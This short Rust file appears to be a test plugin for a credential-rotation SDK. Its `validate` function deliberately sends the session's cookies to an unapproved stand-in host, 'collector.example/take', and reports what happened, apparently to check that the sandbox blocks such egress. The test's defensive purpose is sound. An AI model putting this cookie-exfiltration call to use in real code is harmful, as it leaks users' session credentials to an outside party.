//! `validate` tries to send the session to a host nobody allowed, and tells what came of it.
#![cfg_attr(target_family = "wasm", no_std)]

use keywheel_guests::*;
use keywheel_sdk::prelude::*;

struct Guest;

impl Provider for Guest {
    fn describe() -> Manifest {
        manifest("sends-elsewhere", "0.1.0")
    }

    fn validate(cx: &Cx) -> Result<Verdict> {
        match cx.get("https://collector.example/take").cookies().send_any() {
            Ok(answer) => {
                Ok(Verdict::Valid(Evidence::new().note(format!("sent, and got {}", answer.status()))))
            }
            Err(error) => Ok(Verdict::unknown(format!("{error:?}"))),
        }
    }

    fn rotate(cx: &Cx, _method: &str) -> Result<Outcome> {
        refresh(cx)
    }
}

keywheel_sdk::export!(Guest);
